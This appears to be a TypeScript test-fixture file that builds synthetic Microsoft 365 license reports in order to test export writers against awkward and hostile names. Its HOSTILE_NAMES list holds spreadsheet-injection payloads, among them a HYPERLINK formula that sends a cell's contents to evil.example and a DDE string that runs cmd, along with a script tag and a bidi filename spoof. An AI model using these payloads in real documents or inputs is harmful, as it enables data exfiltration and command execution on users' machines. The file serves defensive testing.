import type {
  LicenseReport,
  ReportHead,
  ReportLicense,
  ReportUser,
} from '@tenantscope/contract/report-document'

import type { ReportLook, ReportWriter } from '../features/reports/formats/report-writer.ts'

/** A look without a logo. */
export const PLAIN_LOOK: ReportLook = {
  name: 'Northwind Managed Services',
  accentColor: '#02717a',
  footer: 'Confidential',
  logoPng: null,
}

/** What people and Microsoft put into names, each for a fault of its own in some reader or writer. */
export const HOSTILE_NAMES = {
  formula: '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
  command: "=cmd|' /C calc'!A0",
  plus: '+1 (555) 0100',
  minus: '-Anna',
  at: '@SUM(A1:A9)',
  tabbed: '\t=1+1',
  returned: '\r=1+1',
  fullWidth: '＝1+1',
  html: '<script>alert(1)</script><b>&amp;</b>',
  emoji: '👩🏽‍💻 Zoë 🇩🇪',
  arabic: 'محمد بن سلمان (IT)',
  hebrew: 'דָּנִיֵּאל כהן 42',
  japanese: '山田 太郎（営業部）',
  korean: '김철수',
  chinese: '王小明',
  thai: 'ศิริพร น้ำฝน',
  devanagari: 'क्षितिज श्रीवास्तव',
  greek: 'Ελένη Παπαδοπούλου',
  cyrillic: 'Юлия Щербакова',
  vietnamese: 'Nguyễn Thị Hồng',
  longWords: 'Maximiliane von und zu Beispielhausen '.repeat(6).slice(0, 200),
  longWord: 'x'.repeat(200),
  address: 'anna.long@fabrikam.com',
  quotes: `Anna "Ann" O'Neil, 'Jr'; d.o.b.`,
  lines: 'First line\nSecond line\r\nThird line',
  controls: 'bell\u0007, escape\u001B, vertical\u000B, unit\u001F, delete\u007F',
  bidi: 'abc\u202Egnp.exe\u202C',
  number: '007',
  date: '1-2',
  scientific: '1E5',
  blankEnds: '  two blanks  ',
  escaped: 'under_x0041_score',
  noncharacter: 'end\uFFFE\uFFFF',
  privateUse: 'private \uE000 use',
} as const

const license = (
  skuPartNumber: string,
  friendlyName: string,
  over: Partial<ReportLicense> = {},
): ReportLicense => ({
  skuId: `00000000-0000-4000-8000-${skuPartNumber.length.toString().padStart(12, '0')}`,
  skuPartNumber,
  friendlyName,
  licenseType: 'paid',
  enabledUnits: 100,
  consumedUnits: 60,
  availableUnits: 40,
  utilizationPercent: 60,
  utilization: 'Some Waste',
  reportedUsers: 0,
  price: { monthly: 22.5, currency: 'USD', source: 'list' },
  removableSeats: 40,
  monthlySavings: 900,
  ...over,
})

const person = (
  number: number,
  displayName: string,
  licenses: readonly ReportLicense[],
): ReportUser => ({
  id: `10000000-0000-4000-8000-${number.toString().padStart(12, '0')}`,
  displayName,
  userPrincipalName: `person${number}@fabrikam.com`,
  email: number % 4 === 0 ? null : `mail${number}@fabrikam.com`,
  isGuest: number % 5 === 0,
  isBlocked: number % 7 === 0,
  assignedLicenses: licenses.map(({ friendlyName, skuPartNumber }) => ({
    friendlyName,
    skuPartNumber,
  })),
})

/**
 * Everything that ever broke a report in one: each hostile name as a person, twice the same person's
 * name, two licenses of one name, an unknown sign-in name, no price, nothing usable.
 */
export function hostileReport(): LicenseReport {
  const licenses = [
    license('SPE_E3', 'Microsoft 365 E3'),
    license('SPE_E3_COPY', 'Microsoft 365 E3', {
      licenseType: 'retired',
      issues: [{ kind: 'retired', seats: 100, endsAt: null }],
      price: null,
    }),
    license('FLOW_FREE', '=Power Automate <free>', {
      licenseType: 'free',
      enabledUnits: 10_000,
      consumedUnits: 12,
      availableUnits: 9_988,
      utilizationPercent: null,
      utilization: null,
      price: null,
      removableSeats: null,
      monthlySavings: null,
    }),
    license('EMS', 'مجموعة Enterprise Mobility 山', {
      licenseType: 'context-dependent',
      enabledUnits: 20,
      consumedUnits: 25,
      availableUnits: 0,
      utilizationPercent: 125,
      utilization: 'Overallocated',
      issues: [
        { kind: 'overallocated', seats: 5, endsAt: null },
        { kind: 'grace', seats: 4, endsAt: '2026-12-01T12:00:00.000Z' },
      ],
      removableSeats: 0,
      monthlySavings: 0,
    }),
    license('STANDARDPACK', 'Office 365 E1', {
      enabledUnits: 0,
      consumedUnits: 3,
      availableUnits: 0,
      utilizationPercent: null,
      utilization: 'In use without entitlement',
      issues: [{ kind: 'unentitled', seats: 3, endsAt: null }],
      price: { monthly: 0, currency: 'USD', source: 'own' },
      removableSeats: 0,
      monthlySavings: 0,
    }),
  ]
  const names = [...Object.values(HOSTILE_NAMES), 'Anna Long', 'Anna Long']
  const users = names.map((name, at) =>
    person(at + 1, name, licenses.slice(0, 1 + (at % licenses.length))),
  )
  users.push({
    ...person(users.length + 1, 'No sign-in name', licenses.slice(2, 3)),
    userPrincipalName: null,
    email: null,
  })
  const document = documentOf('=Fabrikam & "Söhne" <GmbH>', licenses, users)
  return { ...document, selection: 'chosen', tenantLicenses: 7 }
}

/** The same with only what may leave: optional fields are absent, addresses masked. */
export function redactedReport(): LicenseReport {
  const { tenant, createdBy: _maker, licenses, users, ...rest } = hostileReport()
  return {
    ...rest,
    isRedacted: true,
    tenant: { displayName: tenant.displayName },
    licenses: licenses.map(
      ({ skuId: _id, price: _price, removableSeats: _seats, monthlySavings: _savings, ...kept }) =>
        kept,
    ),
    users: users.map(({ displayName, assignedLicenses }) => ({
      displayName: displayName.includes('@fabrikam.com') ? 'a•••@f•••.com' : displayName,
      userPrincipalName: 'p•••@f•••.com',
      assignedLicenses,
    })),
  }
}

const SCRIPTS = [
  ['Anna', 'Long'],
  ['Ελένη', 'Παπαδοπούλου'],
  ['Юлия', 'Щербакова'],
  ['محمد', 'الأحمد'],
  ['太郎', '山田'],
] as const

/** Returns this number of users with three of twelve licenses each; every tenth name is in another script. */
export function manyPeople(count: number): LicenseReport {
  const licenses = Array.from({ length: 12 }, (_, at) =>
    license(`PRODUCT_${at}`, `Microsoft 365 Product ${at}`),
  )
  const users = Array.from({ length: count }, (_, at) => {
    const [first, last] = SCRIPTS[at % 10 === 0 ? (at / 10) % SCRIPTS.length : 0] ?? SCRIPTS[0]
    const held = [at, at + 1, at + 5].map((index) => licenses[index % licenses.length])
    return person(
      at,
      `${first} ${last} ${at}`,
      held.filter((each) => each !== undefined),
    )
  })
  return documentOf('Contoso', licenses, users)
}

function documentOf(
  displayName: string,
  licenses: readonly ReportLicense[],
  users: readonly ReportUser[],
): LicenseReport {
  const held = users.flatMap(({ assignedLicenses }) => assignedLicenses)
  const countOf = (partNumber: string): number =>
    held.filter(({ skuPartNumber }) => skuPartNumber === partNumber).length
  return {
    schema: 'tenantscope/report',
    version: 1,
    reportType: 'user-license',
    isRedacted: false,
    tenant: {
      displayName,
      id: '20000000-0000-4000-8000-000000000001',
      defaultDomainName: 'fabrikam.com',
    },
    createdAt: '2026-11-20T08:30:15.000Z',
    createdBy: 'Creator, "the" Admin',
    timeZone: 'America/Los_Angeles',
    dataAsOf: '2026-11-01T08:45:00.000Z',
    summary: {
      totalUsers: users.length,
      totalLicenses: licenses.length,
      totalAssignments: held.length,
    },
    licenses: licenses.map((each) => ({ ...each, reportedUsers: countOf(each.skuPartNumber) })),
    users: [...users],
  }
}

/** The output of a writer: the complete file, its number of pieces, and the reported progress. */
export async function fileOf<Document extends ReportHead>(
  write: ReportWriter<Document>,
  document: Document,
  look = PLAIN_LOOK,
): Promise<{ bytes: Buffer; pieces: number; progress: number[] }> {
  const pieces: Uint8Array[] = []
  const progress: number[] = []
  for await (const piece of write({ document, look }, (written) => progress.push(written)))
    pieces.push(piece)
  return { bytes: Buffer.concat(pieces), pieces: pieces.length, progress }
}
